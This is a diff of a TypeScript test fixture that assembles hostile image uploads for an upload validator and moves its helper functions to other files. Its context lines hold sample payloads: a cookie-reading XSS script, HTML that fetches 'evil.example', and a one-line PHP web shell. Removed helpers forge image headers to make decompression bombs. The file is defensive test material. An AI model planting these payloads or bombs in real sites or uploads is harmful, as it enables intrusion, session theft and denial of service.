@@ -1,8 +1,17 @@
 import { gzipSync } from 'node:zlib'
-import sharp from 'sharp'
 import { seeded } from '../../tests/hostile.ts'
+import { ordinaryPictures, scene } from './pictures.fixture.ts'
 import { aPng, packedProfile, packedText, pngChunk } from './png.fixture.ts'
 import { anM4a, box } from './sounds.fixture.ts'
+import {
+  manyScans,
+  noise,
+  resizedGif,
+  resizedJpeg,
+  resizedWebp,
+  withJpegComment,
+  withPngChunk,
+} from './tampered.fixture.ts'
 
 export interface HostileUpload {
   readonly name: string
@@ -13,14 +22,6 @@ export interface HostileUpload {
   readonly expect: 'picture' | 'refused' | 'either'
 }
 
-const SECRET_PLACE = {
-  IFD3: {
-    GPSLatitudeRef: 'N',
-    GPSLatitude: '34/1 3/1 8/1',
-    GPSLongitudeRef: 'W',
-    GPSLongitude: '118/1 14/1 37/1',
-  },
-}
 const script = Buffer.from('<script>alert(document.cookie)</script>')
 const html = Buffer.from('<!doctype html><html><body><script>fetch("//evil.example")</script></body></html>')
 const php = Buffer.from('<?php system($_GET["c"]); ?>')
@@ -31,50 +32,9 @@ const zip = Buffer.concat([
   Buffer.alloc(18),
 ])
 
-/** Not plain: a plain one hides what a cut in the middle does. */
-function scene(width = 320, height = 240, channels: 3 | 4 = 3) {
-  const random = seeded('scene')
-  const data = Buffer.from(
-    Array.from({ length: width * height * channels }, (_, i) => (i * 7 + random(90)) % 256),
-  )
-  return sharp(data, { raw: { width, height, channels } })
-}
-
-async function ordinary() {
-  const tagged = scene().withExif({ IFD0: { Artist: 'A Person', Copyright: 'secret' }, ...SECRET_PLACE })
-  const frames = Buffer.concat([0, 80, 160, 240].map((shade) => Buffer.alloc(64 * 64 * 3, shade)))
-  const animated = () => sharp(frames, { raw: { width: 64, height: 256, channels: 3, pageHeight: 64 } })
-  return {
-    jpeg: await tagged.clone().jpeg().toBuffer(),
-    png: await tagged.clone().png().toBuffer(),
-    webp: await tagged.clone().webp().toBuffer(),
-    avif: await tagged.clone().avif({ effort: 0 }).toBuffer(),
-    gif: await scene(64, 64).gif().toBuffer(),
-    progressive: await scene().jpeg({ progressive: true }).toBuffer(),
-    cmyk: await scene().toColourspace('cmyk').jpeg().toBuffer(),
-    deep: await scene().toColourspace('rgb16').png().toBuffer(),
-    interlaced: await scene().png({ progressive: true }).toBuffer(),
-    grey: await scene().greyscale().png().toBuffer(),
-    clear: await scene(320, 240, 4).png().toBuffer(),
-    wide: await scene().withIccProfile('p3').jpeg().toBuffer(),
-    xmp: await scene()
-      .withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf>${script}GPSLatitude</rdf></x:xmpmeta>`)
-      .jpeg()
-      .toBuffer(),
-    animatedGif: await animated().gif().toBuffer(),
-    animatedWebp: await animated().webp().toBuffer(),
-    tiff: await scene().tiff().toBuffer(),
-    turned: await Promise.all(
-      [2, 3, 4, 5, 6, 7, 8].map((orientation) =>
-        scene().withMetadata({ orientation }).withExifMerge(SECRET_PLACE).jpeg().toBuffer(),
-      ),
-    ),
-  }
-}
-
 /** A hundred and more uploads of people who mean no good, or whose program is broken. */
 export async function hostileUploads(): Promise<HostileUpload[]> {
-  const good = await ordinary()
+  const good = await ordinaryPictures()
   const all: HostileUpload[] = []
   const add = (expect: HostileUpload['expect'], name: string, bytes: Buffer, type = 'image/jpeg') =>
     void all.push({ expect, name, bytes, type })
@@ -242,55 +202,3 @@ export async function hostileUploads(): Promise<HostileUpload[]> {
   add('picture', 'PNG of one pixel', aPng(), 'image/png')
   return all
 }
-
-const noise = (length: number): Buffer => {
-  const random = seeded(`noise ${length}`)
-  return Buffer.from(Array.from({ length }, () => random(256)))
-}
-
-function resizedGif(gif: Buffer, side: number): Buffer {
-  const bomb = Buffer.from(gif)
-  bomb.writeUInt16LE(side, 6)
-  bomb.writeUInt16LE(side, 8)
-  return bomb
-}
-
-/** Lossy WebP says its size in the frame's header, and in VP8X before it. */
-function resizedWebp(webp: Buffer, side: number): Buffer {
-  const bomb = Buffer.from(webp)
-  const canvas = bomb.indexOf('VP8X') + 12
-  bomb.writeUIntLE(side - 1, canvas, 3)
-  bomb.writeUIntLE(side - 1, canvas + 3, 3)
-  const frame = bomb.indexOf('9d012a', 0, 'hex') + 3
-  bomb.writeUInt16LE(side & 0x3fff, frame)
-  bomb.writeUInt16LE(side & 0x3fff, frame + 2)
-  return bomb
-}
-
-function resizedJpeg(jpeg: Buffer, side: number): Buffer {
-  const bomb = Buffer.from(jpeg)
-  const frame = bomb.indexOf('ffc00011', 0, 'hex')
-  bomb.writeUInt16BE(side, frame + 5)
-  bomb.writeUInt16BE(side, frame + 7)
-  return bomb
-}
-
-function manyScans(jpeg: Buffer, count: number): Buffer {
-  const last = jpeg.lastIndexOf('ffda', undefined, 'hex')
-  const end = jpeg.lastIndexOf('ffd9', undefined, 'hex')
-  const scan = jpeg.subarray(last, end)
-  return Buffer.concat([
-    jpeg.subarray(0, end),
-    ...Array.from({ length: Math.min(count, Math.floor(4e6 / scan.length)) }, () => scan),
-    jpeg.subarray(end),
-  ])
-}
-
-function withJpegComment(jpeg: Buffer, comment: Buffer): Buffer {
-  const head = Buffer.from([0xff, 0xfe, 0, 0])
-  head.writeUInt16BE(comment.length + 2, 2)
-  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)])
-}
-
-const withPngChunk = (png: Buffer, type: string, data: Buffer): Buffer =>
-  Buffer.concat([png.subarray(0, 33), pngChunk(type, data), png.subarray(33)])
